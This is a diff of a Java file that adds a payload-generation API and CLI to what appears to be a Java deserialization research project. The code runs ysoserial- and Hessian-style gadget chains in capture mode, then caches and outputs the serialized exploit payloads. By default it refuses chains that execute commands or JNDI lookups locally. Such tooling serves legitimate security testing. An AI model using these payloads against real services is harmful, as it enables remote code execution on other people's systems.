@@ -1,12 +1,367 @@
 package org.su18.serialize;
 
+import org.su18.serialize.utils.SerializeUtil;
+
+import java.io.File;
+import java.lang.reflect.InvocationTargetException;
+import java.lang.reflect.Method;
+import java.lang.reflect.Modifier;
+import java.net.URL;
+import java.nio.ByteBuffer;
+import java.nio.channels.Channels;
+import java.nio.channels.WritableByteChannel;
+import java.util.*;
+import java.util.concurrent.*;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.jar.JarEntry;
+import java.util.jar.JarFile;
+
 /**
+ * 在进程内生成 payload 的 API，调用方不需要每次启动 java -jar ysuserial
+ * <p>
+ * 链就是 ysoserial、hessian 包下带 main 方法的类，可以用简单类名（CC6WithHashSet）或者完整类名指定。
+ * 生成时在当前线程开启 SerializeUtil 的捕获模式再调用链的 main：第一次 writeObjectToFile 或者
+ * HessianUtils.hessianSerialize 的结果被截留下来并立即结束 main，不会在本地反序列化。hessian 包下的链返回 hessian2 数据。
+ * 链的 main 都不读取参数，生成时传入空数组
+ * <p>
+ * 所有方法都是线程安全的。生成结果按链缓存到进程退出，同一个链并发请求时只生成一次，
+ * 返回的 ByteBuffer 是缓存的只读视图，各自的 position 互不影响
+ * <p>
+ * 注意链的 main 运行在当前进程中，捕获只能阻止序列化之后的本地反序列化。部分 hessian 链在构造对象的过程中就会触发：
+ * Rome2、XBean1 会在本进程执行命令，SpringAbstractBeanFactoryPointcutAdvisor1、SpringPartiallyComparableAdvisorHolder
+ * 会向 127.0.0.1:1389 发起 JNDI 查询。这些链记录在 LOCAL_TRIGGER 中，generate 和 generateAsync 默认拒绝生成，
+ * 只有 allowLocalTrigger 为 true 时才会运行，调用方需要自行隔离（例如安装 Canary）；warmUp 不指定链时跳过它们，
+ * 指定时作为失败返回
+ * <p>
+ * 用法：java GeneratePayload [-allow-local-trigger] 链 > payload.bin，不带参数时列出所有链
+ *
  * @author su18
  */
 public class GeneratePayload {
 
-	public static void main(String[] args) {
+	private static final String[] CHAIN_PACKAGES = {"org/su18/serialize/ysoserial/", "org/su18/serialize/hessian/"};
+
+	/**
+	 * 有 main 方法但不是链，main 是本地演示，会启动 DnsCollector 并修改全局的 NameService
+	 */
+	private static final Set<String> EXCLUDED = Collections.singleton("org.su18.serialize.ysoserial.URLDNS.URLDNSProbe");
+
+	/**
+	 * 生成时会在本进程触发的链，warmUp 默认跳过
+	 */
+	private static final Set<String> LOCAL_TRIGGER = new HashSet<>(Arrays.asList(
+			"org.su18.serialize.hessian.Rome.Rome2",
+			"org.su18.serialize.hessian.XBean.XBean1",
+			"org.su18.serialize.hessian.SpringAbstractBeanFactoryPointcutAdvisor.SpringAbstractBeanFactoryPointcutAdvisor1",
+			"org.su18.serialize.hessian.SpringPartiallyComparableAdvisorHolder.SpringPartiallyComparableAdvisorHolder"));
+
+	private static final ConcurrentMap<String, Future<byte[]>> CACHE = new ConcurrentHashMap<>();
+
+	private static final ExecutorService EXECUTOR = Executors.newCachedThreadPool(new ThreadFactory() {
+
+		private final AtomicInteger count = new AtomicInteger();
+
+		@Override
+		public Thread newThread(Runnable r) {
+			Thread thread = new Thread(r, "generate-payload-" + count.incrementAndGet());
+			thread.setDaemon(true);
+			return thread;
+		}
+	});
+
+	public static void main(String[] args) throws Exception {
+		if (args.length == 0) {
+			for (String chain : getChains().keySet()) {
+				System.out.println(chain);
+			}
+			return;
+		}
+
+		boolean allowLocalTrigger = "-allow-local-trigger".equals(args[0]);
+		int     index             = allowLocalTrigger ? 1 : 0;
+		if (args.length != index + 1) {
+			System.err.println("Usage: GeneratePayload [-allow-local-trigger] <chain>");
+			return;
+		}
+
+		ByteBuffer          buffer  = generate(args[index], allowLocalTrigger);
+		WritableByteChannel channel = Channels.newChannel(System.out);
+		while (buffer.hasRemaining()) {
+			channel.write(buffer);
+		}
+		System.out.flush();
+	}
+
+	/**
+	 * 生成 payload，拒绝生成 LOCAL_TRIGGER 中的链
+	 *
+	 * @param chain 链的简单类名或者完整类名
+	 * @return 返回只读的 ByteBuffer
+	 * @throws IllegalArgumentException 链生成时会在本进程触发
+	 * @throws Exception                链不存在，或者链没有生成数据、生成时抛出异常
+	 */
+	public static ByteBuffer generate(String chain) throws Exception {
+		return generate(chain, false);
+	}
+
+	/**
+	 * 生成 payload
+	 *
+	 * @param chain             链的简单类名或者完整类名
+	 * @param allowLocalTrigger 是否允许生成 LOCAL_TRIGGER 中的链，这些链在生成时就会在本进程执行命令或者发起 JNDI 查询
+	 * @return 返回只读的 ByteBuffer
+	 * @throws IllegalArgumentException 链生成时会在本进程触发，且 allowLocalTrigger 为 false
+	 * @throws Exception                链不存在，或者链没有生成数据、生成时抛出异常
+	 */
+	public static ByteBuffer generate(String chain, boolean allowLocalTrigger) throws Exception {
+		try {
+			return wrap(load(chain, allowLocalTrigger).get());
+		} catch (ExecutionException e) {
+			Throwable cause = e.getCause();
+			throw cause instanceof Exception ? (Exception) cause : e;
+		}
+	}
+
+	/**
+	 * 异步生成 payload，拒绝生成 LOCAL_TRIGGER 中的链
+	 *
+	 * @see #generateAsync(String, boolean)
+	 */
+	public static Future<ByteBuffer> generateAsync(String chain) {
+		return generateAsync(chain, false);
+	}
+
+	/**
+	 * 异步生成 payload，已经缓存时返回的 Future 立即完成
+	 *
+	 * @param chain             链的简单类名或者完整类名
+	 * @param allowLocalTrigger 是否允许生成 LOCAL_TRIGGER 中的链
+	 * @return 返回 Future，失败时 get 抛出 ExecutionException
+	 */
+	public static Future<ByteBuffer> generateAsync(final String chain, final boolean allowLocalTrigger) {
+		return EXECUTOR.submit(new Callable<ByteBuffer>() {
+			@Override
+			public ByteBuffer call() throws Exception {
+				return generate(chain, allowLocalTrigger);
+			}
+		});
+	}
+
+	/**
+	 * 提前生成并缓存
+	 *
+	 * @param chains 链，为空时生成除 LOCAL_TRIGGER 以外的全部链，指定 LOCAL_TRIGGER 中的链时作为失败返回
+	 * @return 返回生成失败的链和原因
+	 */
+	public static Map<String, Exception> warmUp(String... chains) throws InterruptedException {
+		Collection<String> names = Arrays.asList(chains);
+		if (chains.length == 0) {
+			names = new ArrayList<>();
+			for (Map.Entry<String, String> chain : getChains().entrySet()) {
+				if (!LOCAL_TRIGGER.contains(chain.getValue())) {
+					names.add(chain.getKey());
+				}
+			}
+		}
+
+		Map<String, Future<?>> tasks  = new LinkedHashMap<>();
+		Map<String, Exception> failed = new LinkedHashMap<>();
+		for (String name : names) {
+			tasks.put(name, generateAsync(name));
+		}
+		for (Map.Entry<String, Future<?>> entry : tasks.entrySet()) {
+			try {
+				entry.getValue().get();
+			} catch (ExecutionException e) {
+				failed.put(entry.getKey(), e.getCause() instanceof Exception ? (Exception) e.getCause() : e);
+			}
+		}
+		return failed;
+	}
 
+	/**
+	 * 链在生成时是否会在本进程执行命令或者发起 JNDI 查询
+	 *
+	 * @param chain 链的简单类名或者完整类名
+	 */
+	public static boolean triggersLocally(String chain) throws ClassNotFoundException {
+		return LOCAL_TRIGGER.contains(resolve(chain));
 	}
 
+	/**
+	 * 清空生成结果的缓存
+	 */
+	public static void clearCache() {
+		CACHE.clear();
+	}
+
+	/**
+	 * 所有链，简单类名到完整类名，按名称排序
+	 */
+	public static Map<String, String> getChains() {
+		return ChainIndex.CHAINS;
+	}
+
+	/**
+	 * 取出缓存中的结果，不存在时由当前线程生成
+	 */
+	private static Future<byte[]> load(String chain, boolean allowLocalTrigger) throws ClassNotFoundException {
+		final String key = resolve(chain);
+		if (!allowLocalTrigger && LOCAL_TRIGGER.contains(key)) {
+			throw new IllegalArgumentException(chain + " triggers in this process while generating, use generate(chain, true) to allow it");
+		}
+
+		Future<byte[]> future = CACHE.get(key);
+		if (future != null) {
+			return future;
+		}
+
+		FutureTask<byte[]> task = new FutureTask<>(new Callable<byte[]>() {
+			@Override
+			public byte[] call() throws Exception {
+				return capture(key);
+			}
+		});
+		future = CACHE.putIfAbsent(key, task);
+		if (future != null) {
+			return future;
+		}
+		task.run();
+		try {
+			task.get();
+		} catch (ExecutionException | InterruptedException e) {
+			// 失败的结果不缓存，下次重新生成
+			CACHE.remove(key, task);
+		}
+		return task;
+	}
+
+	/**
+	 * 在捕获模式下运行链的 main 方法
+	 */
+	private static byte[] capture(String className) throws Exception {
+		Method main = Class.forName(className).getMethod("main", String[].class);
+		if (!Modifier.isStatic(main.getModifiers())) {
+			throw new NoSuchMethodException(className + ".main is not static");
+		}
+
+		SerializeUtil.beginCapture();
+		byte[] bytes;
+		try {
+			main.invoke(null, (Object) new String[0]);
+		} catch (InvocationTargetException e) {
+			Throwable cause = e.getCause();
+			if (!(cause instanceof SerializeUtil.CaptureComplete)) {
+				throw cause instanceof Exception ? (Exception) cause : e;
+			}
+		} finally {
+			bytes = SerializeUtil.endCapture();
+		}
+
+		if (bytes == null) {
+			throw new IllegalStateException(className + " did not produce a payload");
+		}
+		return bytes;
+	}
+
+	private static String resolve(String chain) throws ClassNotFoundException {
+		String className = getChains().get(chain);
+		if (className != null) {
+			return className;
+		}
+		if (getChains().containsValue(chain)) {
+			return chain;
+		}
+		throw new ClassNotFoundException("unknown chain: " + chain);
+	}
+
+	private static ByteBuffer wrap(byte[] bytes) {
+		return ByteBuffer.wrap(bytes).asReadOnlyBuffer();
+	}
+
+	/**
+	 * 第一次使用时扫描 GeneratePayload 所在的目录或 jar，找出链的类名
+	 */
+	private static final class ChainIndex {
+
+		private static final Map<String, String> CHAINS;
+
+		static {
+			SortedMap<String, String> chains = new TreeMap<>();
+			try {
+				URL  location = GeneratePayload.class.getProtectionDomain().getCodeSource().getLocation();
+				File root     = new File(location.toURI());
+				if (root.isDirectory()) {
+					for (String prefix : CHAIN_PACKAGES) {
+						scan(new File(root, prefix), prefix, chains);
+					}
+				} else {
+					List<String> names = new ArrayList<>();
+					JarFile      jar   = new JarFile(root);
+					try {
+						Enumeration<JarEntry> entries = jar.entries();
+						while (entries.hasMoreElements()) {
+							names.add(entries.nextElement().getName());
+						}
+					} finally {
+						jar.close();
+					}
+					// 按包的顺序处理，简单类名重复时前面的包优先
+					for (String prefix : CHAIN_PACKAGES) {
+						for (String name : names) {
+							if (name.startsWith(prefix)) {
+								add(name, chains);
+							}
+						}
+					}
+				}
+			} catch (Exception e) {
+				throw new ExceptionInInitializerError(e);
+			}
+			CHAINS = Collections.unmodifiableMap(chains);
+		}
+
+		private static void scan(File dir, String path, Map<String, String> chains) {
+			File[] files = dir.listFiles();
+			if (files == null) {
+				return;
+			}
+			for (File file : files) {
+				if (file.isDirectory()) {
+					scan(file, path + file.getName() + "/", chains);
+				} else {
+					add(path + file.getName(), chains);
+				}
+			}
+		}
+
+		private static void add(String entry, Map<String, String> chains) {
+			if (!entry.endsWith(".class") || entry.indexOf('$') >= 0) {
+				return;
+			}
+			for (String prefix : CHAIN_PACKAGES) {
+				if (entry.startsWith(prefix)) {
+					String className  = entry.substring(0, entry.length() - 6).replace('/', '.');
+					String simpleName = className.substring(className.lastIndexOf('.') + 1);
+					if (!chains.containsKey(simpleName) && !EXCLUDED.contains(className) && hasMain(className)) {
+						chains.put(simpleName, className);
+					}
+					return;
+				}
+			}
+		}
+
+		/**
+		 * 只检查方法签名，不初始化类
+		 */
+		private static boolean hasMain(String className) {
+			try {
+				Method main = Class.forName(className, false, GeneratePayload.class.getClassLoader())
+						.getMethod("main", String[].class);
+				return Modifier.isStatic(main.getModifiers());
+			} catch (ClassNotFoundException | NoSuchMethodException | LinkageError e) {
+				return false;
+			}
+		}
+	}
 }